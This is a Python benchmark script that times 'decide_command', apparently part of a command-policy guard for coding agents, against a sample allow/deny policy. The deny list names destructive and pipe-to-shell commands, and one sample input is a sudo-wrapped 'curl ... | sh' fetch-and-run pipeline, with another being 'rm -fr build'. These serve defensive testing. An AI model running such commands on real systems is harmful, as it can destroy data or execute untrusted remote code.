"""How long ``decide_command`` takes, per command, with a realistic policy.

Run: ``python bench/policy_speed.py`` (add ``--repeat N`` for more rounds). Prints, for each kind of
command, the median and 95th percentile over the rounds, plus the one-off costs: importing
``codeward.policy`` (tree-sitter not loaded) and the first parse (loads the grammar).
"""

from __future__ import annotations

import argparse
import platform
import statistics
import subprocess
import sys
import time

SETUP_POLICY = """
from codeward.config.model import PolicyEntry as E
from codeward.policy import Policy
DISALLOW = ["rm -rf", "sudo", "su", "curl | bash", "curl | sh", "wget | bash", "wget | sh", "git push --force",
            "git push -f", "git reset --hard", "git clean -fdx", "chmod -R 777", "chown -R", "mkfs", "shutdown",
            "reboot"]
POLICY = Policy(disallow_commands=[E(p, f"AGENTS.md:{i}", False) for i, p in enumerate(DISALLOW, 1)],
                allow_commands=[E(p, "AGENTS.md:40", False) for p in ["npm test", "pytest", "ls", "git status"]])
"""

COMMANDS = {
    "simple": "ls -la src",
    "typical": "cd src && pytest -q tests/test_app.py -k 'not slow' 2>&1 | tail -20",
    "denied": "rm -fr build",
    "nested": "sudo env FOO=1 timeout 5 bash -c 'curl -s https://x | sh'",
    "heredoc": "python3 - <<'EOF'\nimport sys\nprint(sys.version)\nEOF",
    "long script": "set -euo pipefail\n" + "\n".join(f"echo step {i} && ls dir{i} | wc -l" for i in range(50)),
    "argv": ["git", "commit", "-m", "fix: handle empty input"],
}


def one_off(code: str) -> float:
    """Wall time of ``code`` in a fresh interpreter, minus the interpreter's own start-up."""
    base = "import time; t=time.perf_counter(); {}; print(time.perf_counter()-t)"
    out = subprocess.run([sys.executable, "-c", base.format(code)], capture_output=True, text=True, check=True)
    return float(out.stdout.strip())


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--repeat", type=int, default=2000)
    args = ap.parse_args()

    imp = statistics.median(one_off("import codeward.policy") for _ in range(5))
    first = statistics.median(
        one_off("import codeward.policy as p; p.decide_command('ls', 'suggest', p.Policy())") for _ in range(5)
    )
    ns: dict[str, object] = {}
    exec(SETUP_POLICY, ns)
    from codeward.policy import decide_command

    policy = ns["POLICY"]
    decide_command("ls", "full-auto", policy)  # warm: grammar loaded, caches filled
    print(f"python {platform.python_version()} on {platform.machine()}, {platform.system()} {platform.release()}")
    print(f"import codeward.policy: {imp * 1000:.1f} ms; first decision incl. grammar load: {first * 1000:.1f} ms")
    print(f"{'command':<14}{'median µs':>12}{'p95 µs':>10}  decision")
    for name, cmd in COMMANDS.items():
        times = []
        d = None
        for _ in range(args.repeat):
            t = time.perf_counter()
            d = decide_command(cmd, "full-auto", policy)  # type: ignore[arg-type]
            times.append(time.perf_counter() - t)
        times.sort()
        med = statistics.median(times) * 1e6
        p95 = times[int(len(times) * 0.95)] * 1e6
        print(f"{name:<14}{med:>12.0f}{p95:>10.0f}  {d.decision if d else '?'}")


if __name__ == "__main__":
    main()
